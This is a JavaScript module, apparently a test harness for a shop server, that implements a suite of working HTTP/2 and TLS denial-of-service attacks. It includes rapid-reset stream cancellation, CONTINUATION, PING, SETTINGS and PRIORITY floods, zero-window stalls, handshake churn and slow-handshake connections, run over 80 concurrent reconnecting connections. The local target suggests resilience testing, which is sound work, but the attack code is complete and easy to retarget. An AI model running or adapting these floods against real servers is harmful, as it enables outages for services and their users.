// What somebody with one address and HTTP/2 can do, frame by frame (RFC 9113); a thread of its own for `https.mjs`.

import net from 'node:net';
import tls from 'node:tls';
import { isMainThread, parentPort, workerData } from 'node:worker_threads';

export const host = 'shop.example';
const list = '/api/store/store_manetes/cards?lang=es&limit=24&offset=0';
/** More than one address may have. */
const connections = 80;
const from = '127.0.2.1';

const [DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, CONTINUATION] = [0, 1, 2, 3, 4, 6, 9];
const [END_STREAM, END_HEADERS] = [1, 4];

function frame(kind, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(kind, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A head in plain literals (RFC 7541, 6.2.2). */
function head(path) {
  const fields = { ':method': 'GET', ':scheme': 'https', ':path': path, ':authority': host };
  const text = (value) => [Buffer.from([value.length]), Buffer.from(value)];
  return Buffer.concat(Object.entries(fields).flatMap(([key, value]) => [Buffer.from([0]), ...text(key), ...text(value)]));
}

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const ask = (n, path) => frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, head(path));
const takeBack = (n) => frame(RST_STREAM, 0, 2 * n + 1, Buffer.from([0, 0, 0, 8]));
const many = (count, make) => Buffer.concat(Array.from({ length: count }, (_, n) => make(n)));
const window = (bytes) => frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, bytes]));

/** What is said first, and then again and again; `rest` says once more something later. */
const storms = {
  'requests taken back at once': { first: [window(0), many(5000, (n) => Buffer.concat([ask(n, list), takeBack(n)]))] },
  'requests taken back at work': { first: [window(0), many(90, (n) => ask(n, list))], rest: many(90, takeBack) },
  '10,000 requests at once': { first: [window(0), many(10_000, (n) => ask(n, list))] },
  'a head that never ends': {
    first: [window(0), frame(HEADERS, END_STREAM, 1, head('/'))],
    again: many(100, () => frame(CONTINUATION, 0, 1, Buffer.concat([Buffer.from([0, 1, 120, 100]), Buffer.alloc(100, 'v')]))),
  },
  'empty continuations': {
    first: [window(0), frame(HEADERS, END_STREAM, 1, head('/'))],
    again: many(1000, () => frame(CONTINUATION, 0, 1)),
  },
  pings: { first: [window(0)], again: many(1000, () => frame(PING, 0, 0, Buffer.alloc(8))) },
  settings: { first: [window(0)], again: many(1000, () => frame(SETTINGS, 0, 0)) },
  priorities: { first: [window(0)], again: many(1000, () => frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 3, 16]))) },
  'empty data': {
    first: [window(0), frame(HEADERS, END_HEADERS, 1, head('/contact'))],
    again: many(1000, () => frame(DATA, 0, 1)),
  },
  'answers that nobody reads': { first: [window(0), many(100, (n) => ask(n, '/api/openapi.json'))], stays: true },
  'answers that are read byte by byte': { first: [window(1), many(100, (n) => ask(n, '/api/openapi.json'))], stays: true },
};
const others = ['handshakes again and again', 'handshakes that never end', 'nothing after the handshake'];
export const attacks = [...Object.keys(storms), ...others];

if (!isMainThread) parentPort.postMessage(await rage(workerData));

/** Attacks for so long; how many connections were made, and how many bytes were said. */
async function rage({ shop, attack, seconds }) {
  const [end, counts] = [Date.now() + seconds * 1000, { made: 0, said: 0 }];
  const one = attack in storms ? storm(storms[attack]) : { [others[0]]: churn, [others[1]]: dribble, [others[2]]: silence }[attack];
  await Promise.all(Array.from({ length: connections }, () => repeatedly(one, shop, end, counts)));
  return counts;
}

async function repeatedly(one, shop, end, counts) {
  while (Date.now() < end) {
    await one(shop, end, counts).catch(() => {});
    // Whoever is thrown out comes again.
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
}

/** Over TLS, from the attacker's address; the second ends with the connection. */
function secure({ https }, counts) {
  const options = { host: '127.0.0.1', port: https, localAddress: from, servername: host, ALPNProtocols: ['h2'], rejectUnauthorized: false };
  const socket = tls.connect(options);
  const closed = new Promise((resolve) => socket.on('error', () => {}).on('close', resolve));
  socket.on('data', () => {});
  const opened = new Promise((resolve, reject) => {
    socket.once('secureConnect', resolve);
    void closed.then(reject);
  }).then(() => counts.made++);
  return { socket, opened, closed };
}

function storm({ first, again, rest, stays }) {
  return async (shop, end, counts) => {
    const { socket, opened, closed } = secure(shop, counts);
    await opened;
    const say = (bytes) => {
      counts.said += bytes.length;
      return new Promise((resolve, reject) => socket.write(bytes, (error) => (error ? reject(error) : resolve())));
    };
    await say(Buffer.concat([preface, ...first]));
    if (rest) {
      await new Promise((resolve) => setTimeout(resolve, 5));
      await say(rest);
    }
    while (again && Date.now() < end && !socket.destroyed) await Promise.race([say(again), closed]);
    if (stays) await Promise.race([closed, new Promise((resolve) => setTimeout(resolve, end - Date.now()))]);
    socket.destroy();
  };
}

async function churn(shop, _end, counts) {
  const { socket, opened } = secure(shop, counts);
  await opened;
  socket.destroy();
}

/** The beginning of a handshake, a byte a second. */
async function dribble({ https }, end, counts) {
  const socket = net.connect({ host: '127.0.0.1', port: https, localAddress: from });
  const closed = new Promise((resolve) => socket.on('error', () => {}).on('close', resolve));
  counts.made++;
  for (const byte of [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3, 1, 1, 1]) {
    socket.write(Buffer.from([byte]));
    counts.said++;
    const over = await Promise.race([closed.then(() => true), new Promise((resolve) => setTimeout(resolve, 1000))]);
    if (over || Date.now() > end) break;
  }
  socket.destroy();
}

async function silence(shop, end, counts) {
  const { socket, opened, closed } = secure(shop, counts);
  await opened;
  await Promise.race([closed, new Promise((resolve) => setTimeout(resolve, end - Date.now()))]);
  socket.destroy();
}
